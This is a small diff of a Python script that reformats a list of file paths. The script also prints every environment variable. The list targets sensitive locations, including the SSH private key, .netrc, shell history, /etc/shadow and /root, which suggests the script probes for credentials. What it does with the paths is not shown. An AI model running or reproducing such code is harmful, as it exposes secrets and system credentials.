@@ -5,7 +5,17 @@ import os
 import pwd
 
 print(dict(os.environ))
-PLACES = ["~/.ssh/id_rsa", "~/.netrc", "~/.bash_history", "~/.config", "~", "/etc/shadow", "/etc/passwd", "/tmp", "/root"]
+PLACES = [
+    "~/.ssh/id_rsa",
+    "~/.netrc",
+    "~/.bash_history",
+    "~/.config",
+    "~",
+    "/etc/shadow",
+    "/etc/passwd",
+    "/tmp",
+    "/root",
+]
 try:
     PLACES.append(pwd.getpwuid(os.getuid()).pw_dir)
 except KeyError:
